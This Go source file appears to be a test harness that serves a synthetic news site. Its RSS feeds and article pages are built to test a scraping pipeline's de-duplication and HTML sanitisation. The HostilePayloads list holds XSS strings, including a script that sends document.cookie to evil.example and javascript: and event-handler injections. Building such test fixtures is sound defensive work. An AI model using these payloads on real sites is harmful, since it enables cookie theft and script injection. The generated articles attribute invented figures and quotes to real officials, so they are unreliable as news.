package chaos

import (
	"fmt"
	"html"
	"math/rand/v2"
	"net/http"
	"strconv"
	"strings"
	"time"

	"github.com/newsflow/newsflow/pkg/schema"
)

// Site is a synthetic news site: Feeds RSS feeds sharing Articles article
// pages between them. Every page is generated from its index, so a page
// fetched twice has the same bytes (and content hash), which is what lets
// the pipeline's de-duplication be checked. Pages look like the real thing:
// a head with Open Graph and article metadata, a navigation bar, a cookie
// banner, the article with byline, date and paragraphs quoting officials
// with figures, related links, a newsletter box and a footer.
type Site struct {
	Articles int
	Feeds    int
	// Hostile adds script, event-handler and javascript: payloads to every
	// page, in the chrome and inside the article body.
	Hostile bool
	// Base is the site's URL, set once it is served (http://127.0.0.1:port).
	Base string
}

// FeedPath is the path of feed f.
func FeedPath(f int) string { return "/feeds/section-" + strconv.Itoa(f) + ".xml" }

// ArticlePath is the path of article i.
func ArticlePath(i int) string {
	day := time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC).AddDate(0, 0, i%300)
	return fmt.Sprintf("/%s/world/story-%05d.html", day.Format("2006/01/02"), i)
}

// ArticleURL is the absolute URL of article i.
func (s *Site) ArticleURL(i int) string { return s.Base + ArticlePath(i) }

// IDs returns the article id the pipeline derives for every page.
func (s *Site) IDs() (map[string]int, error) {
	ids := make(map[string]int, s.Articles)
	for i := 0; i < s.Articles; i++ {
		id, _, err := schema.ArticleID(s.ArticleURL(i))
		if err != nil {
			return nil, fmt.Errorf("chaos: article %d: %w", i, err)
		}
		ids[id] = i
	}
	return ids, nil
}

// FeedsYAML is a feeds file for the fetcher listing every feed.
func (s *Site) FeedsYAML() string {
	var b strings.Builder
	b.WriteString("feeds:\n")
	for f := 0; f < s.Feeds; f++ {
		fmt.Fprintf(&b, "  - url: %s%s\n    title: Section %d\n", s.Base, FeedPath(f), f)
	}
	return b.String()
}

// ServeHTTP serves robots.txt, the feeds and the article pages.
func (s *Site) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	p := r.URL.Path
	switch {
	case p == "/robots.txt":
		w.Header().Set("Content-Type", "text/plain")
		_, _ = w.Write([]byte("User-agent: *\nDisallow: /admin/\n"))
	case strings.HasPrefix(p, "/feeds/section-"):
		f, err := strconv.Atoi(strings.TrimSuffix(strings.TrimPrefix(p, "/feeds/section-"), ".xml"))
		if err != nil || f < 0 || f >= s.Feeds {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "application/rss+xml; charset=utf-8")
		_, _ = w.Write([]byte(s.feed(f)))
	default:
		i, ok := s.articleIndex(p)
		if !ok {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = w.Write([]byte(s.Page(i)))
	}
}

func (s *Site) articleIndex(p string) (int, bool) {
	k := strings.LastIndex(p, "/story-")
	if k < 0 || !strings.HasSuffix(p, ".html") {
		return 0, false
	}
	i, err := strconv.Atoi(strings.TrimSuffix(p[k+len("/story-"):], ".html"))
	if err != nil || i < 0 || i >= s.Articles || ArticlePath(i) != p {
		return 0, false
	}
	return i, true
}

// feed renders feed f: articles f, f+Feeds, f+2*Feeds, ...
func (s *Site) feed(f int) string {
	var b strings.Builder
	fmt.Fprintf(&b, `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel>
<title>The Daily Synthetic: Section %d</title>
<link>%s/section/%d</link>
<description>World news, section %d</description>
<language>en</language>
`, f, s.Base, f, f)
	for i := f; i < s.Articles; i += s.Feeds {
		st := story(i)
		fmt.Fprintf(&b, `<item>
<title>%s</title>
<link>%s</link>
<guid isPermaLink="true">%s</guid>
<pubDate>%s</pubDate>
<dc:creator>%s</dc:creator>
<category>World</category>
<description>%s</description>
</item>
`, html.EscapeString(st.title), s.ArticleURL(i), s.ArticleURL(i), st.published.Format(time.RFC1123Z),
			html.EscapeString(st.author), html.EscapeString(st.paragraphs[0]))
	}
	b.WriteString("</channel>\n</rss>\n")
	return b.String()
}

// HostilePayloads are what Hostile pages carry: markup that would run if a
// reader of the stored text rendered it as HTML.
var HostilePayloads = []string{
	`<script>document.location='https://evil.example/?c='+document.cookie</script>`,
	`<img src=x onerror="alert('xss')">`,
	`<svg onload=alert(1)><circle r="1"/></svg>`,
	`<a href="javascript:alert(document.domain)">Read more</a>`,
	`<iframe src="javascript:alert(2)"></iframe>`,
	`<p onmouseover="alert(3)">Hover here.</p>`,
	`<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCg0KTwvc2NyaXB0Pg=="></object>`,
	`<style>@import 'https://evil.example/x.css';</style>`,
	// Escaped, this is text: the article quotes an attack string.
	`<p>Researchers showed the panel the string &lt;script&gt;alert(5)&lt;/script&gt; and &lt;img src=x onerror=alert(6)&gt;.</p>`,
}

// QuotedAttack is how the last of HostilePayloads reads as text: the page
// shows it, so the stored text keeps it, as text.
const QuotedAttack = `<script>alert(5)</script> and <img src=x onerror=alert(6)>`

// Page renders article page i.
func (s *Site) Page(i int) string {
	st := story(i)
	var b strings.Builder
	esc := html.EscapeString
	fmt.Fprintf(&b, `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>%s | The Daily Synthetic</title>
<meta name="viewport" content="width=device-width, initial-scale=1">
<meta property="og:title" content="%s">
<meta property="og:type" content="article">
<meta property="og:site_name" content="The Daily Synthetic">
<meta name="author" content="%s">
<meta property="article:published_time" content="%s">
<link rel="canonical" href="%s">
<link rel="stylesheet" href="/static/site.css">
<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments);}gtag('js',new Date());</script>
`, esc(st.title), esc(st.title), esc(st.author), st.published.Format(time.RFC3339), s.ArticleURL(i))
	if s.Hostile {
		b.WriteString(HostilePayloads[0] + "\n")
	}
	b.WriteString(`</head>
<body class="article-page">
<div id="cookie-banner" class="consent">We use cookies to improve your experience. <button>Accept all</button> <button>Manage preferences</button></div>
<header class="site-header">
<a class="logo" href="/">The Daily Synthetic</a>
<nav class="main-nav"><ul>
<li><a href="/world">World</a></li><li><a href="/politics">Politics</a></li><li><a href="/business">Business</a></li>
<li><a href="/opinion">Opinion</a></li><li><a href="/sport">Sport</a></li><li><a href="/subscribe">Subscribe</a></li>
</ul></nav>
</header>
<main>
<article class="story">
`)
	fmt.Fprintf(&b, "<h1 class=\"headline\">%s</h1>\n", esc(st.title))
	fmt.Fprintf(&b, "<p class=\"byline\">By <a rel=\"author\" href=\"/authors/%d\">%s</a>, %s</p>\n", i%17, esc(st.author), esc(st.place))
	fmt.Fprintf(&b, "<time datetime=\"%s\">%s</time>\n", st.published.Format(time.RFC3339), st.published.Format("2 January 2006"))
	b.WriteString("<div class=\"story-body\">\n")
	for k, p := range st.paragraphs {
		fmt.Fprintf(&b, "<p>%s</p>\n", esc(p))
		for j := 1; s.Hostile && j < len(HostilePayloads); j++ {
			if (j-1)%len(st.paragraphs) == k {
				b.WriteString(HostilePayloads[j] + "\n")
			}
		}
		if k == 2 {
			b.WriteString(`<aside class="inline-promo"><a href="/newsletter">Sign up for our morning briefing</a></aside>` + "\n")
		}
	}
	b.WriteString(`</div>
</article>
<aside class="related"><h2>Related stories</h2><ul>
`)
	for k := 1; k <= 4; k++ {
		fmt.Fprintf(&b, "<li><a href=\"%s\">%s</a></li>\n", ArticlePath((i+k*37)%max(s.Articles, 1)), esc(story(i+k*37).title))
	}
	b.WriteString(`</ul></aside>
</main>
<section class="newsletter"><h2>Get the briefing</h2><form action="/subscribe"><input type="email" placeholder="Your email"><button>Sign up</button></form></section>
<footer class="site-footer"><p>&copy; 2024 The Daily Synthetic. All rights reserved.</p>
<ul><li><a href="/about">About us</a></li><li><a href="/privacy">Privacy policy</a></li><li><a href="/terms">Terms of use</a></li><li><a href="/contact">Contact</a></li></ul></footer>
<script src="/static/app.js" async></script>
</body>
</html>
`)
	return b.String()
}

type storyParts struct {
	title, author, place string
	published            time.Time
	paragraphs           []string
}

var (
	places    = []string{"Mosul", "Raqqa", "Baghdad", "Deir ez-Zor", "Kirkuk", "Aleppo", "Tikrit", "Fallujah", "Erbil", "Ramadi"}
	speakers  = []string{"Colonel John Dorrian", "a coalition spokesman", "the Iraqi defence ministry", "General Joseph Votel", "a local official", "the provincial governor", "Brett McGurk", "a Kurdish commander"}
	authors   = []string{"Maria Santos", "Ahmed Hassan", "Claire Dupont", "James O'Neill", "Leila Karimi", "Tom Becker", "Nadia Rahman"}
	subjects  = []string{"Islamic State fighters", "ISIS militants", "Daesh cells", "coalition forces", "Iraqi security forces", "the Syrian Democratic Forces", "aid agencies", "residents"}
	actions   = []string{"launched an offensive near", "retreated from", "were reported in", "struck targets around", "reopened roads into", "evacuated families from"}
	quantity  = []string{"%d air strikes", "about %d fighters", "more than %d civilians", "%d vehicles", "between %d and %d families", "%d per cent of the district", "nearly %d kilometres"}
	sentences = []string{
		"Officials said the situation remained fluid and that further operations were planned for the coming weeks.",
		"Humanitarian groups warned that shortages of water and medicine were worsening across the area.",
		"The claims could not be independently verified, and local sources gave conflicting accounts.",
		"Analysts said the group had lost most of its territory but retained the ability to stage attacks.",
		"Residents described days of shelling, with many sheltering in basements as fighting moved street by street.",
		"The government has promised reconstruction funds, though past pledges have been slow to arrive.",
	}
)

// story returns the parts of article i, the same every time.
func story(i int) storyParts {
	r := rand.New(rand.NewPCG(uint64(i)+1, 0x6e657773))
	pick := func(xs []string) string { return xs[r.IntN(len(xs))] }
	place := pick(places)
	st := storyParts{
		place:     place,
		author:    pick(authors),
		published: time.Date(2024, 1, 1, 6, 0, 0, 0, time.UTC).AddDate(0, 0, i%300).Add(time.Duration(r.IntN(16*60)) * time.Minute),
	}
	subj := pick(subjects)
	subjTitle := strings.ToUpper(subj[:1]) + subj[1:]
	st.title = fmt.Sprintf("%s %s %s, story %d", subjTitle, pick(actions), place, i)
	n := 4 + r.IntN(4)
	for k := 0; k < n; k++ {
		q := pick(quantity)
		var amount string
		if strings.Count(q, "%d") == 2 {
			lo := 10 + r.IntN(200)
			amount = fmt.Sprintf(q, lo, lo+10+r.IntN(300))
		} else {
			amount = fmt.Sprintf(q, 2+r.IntN(900))
		}
		switch k % 3 {
		case 0:
			st.paragraphs = append(st.paragraphs, fmt.Sprintf("%s %s %s on %s, according to %s, who said %s had been involved in the operation. %s",
				subjTitle, pick(actions), place, st.published.Weekday(), pick(speakers), amount, pick(sentences)))
		case 1:
			st.paragraphs = append(st.paragraphs, fmt.Sprintf("\u201cWe have seen %s in the last week alone,\u201d %s told reporters in %s. %s",
				amount, pick(speakers), pick(places), pick(sentences)))
		default:
			sp := pick(speakers)
			st.paragraphs = append(st.paragraphs, fmt.Sprintf("%s said %s were affected around %s. %s %s",
				strings.ToUpper(sp[:1])+sp[1:], amount, place, pick(sentences), pick(sentences)))
		}
	}
	return st
}
